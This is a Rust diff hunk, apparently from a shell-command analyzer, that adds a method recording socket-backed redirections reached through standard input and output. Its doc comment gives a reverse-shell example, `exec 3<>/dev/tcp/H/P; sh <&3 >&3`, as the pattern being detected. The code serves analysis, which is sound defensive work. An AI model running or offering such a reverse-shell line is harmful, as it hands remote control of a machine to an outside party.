@@ -171,6 +171,21 @@ impl Frame<'_> {
         true
     }
 
+    /// Adds the connections that standard input and output lead to and no redirection of the command itself opens:
+    /// `exec 3<>/dev/tcp/H/P; sh <&3 >&3`.
+    pub(super) fn sockets(&self, redirected: &Redirected, input: &Input, redirects: &mut Vec<Redirect>) {
+        let written = redirected.outputs.iter().map(|(file, _)| (RedirectKind::Write, file));
+        let read = match &input.content {
+            Content::File(file) => Some((RedirectKind::Read, file)),
+            _ => None,
+        };
+        for (kind, file) in written.chain(read).filter(|(_, file)| file.socket().is_some()) {
+            if !redirects.iter().any(|known| known.target.parts == file.parts) {
+                redirects.push(Redirect { kind, target: Rc::new(file.clone()) });
+            }
+        }
+    }
+
     /// Returns a file's name that means the same wherever the shell goes.
     fn anywhere(&self, file: &Word) -> Word {
         let path = self.state.resolve(file);
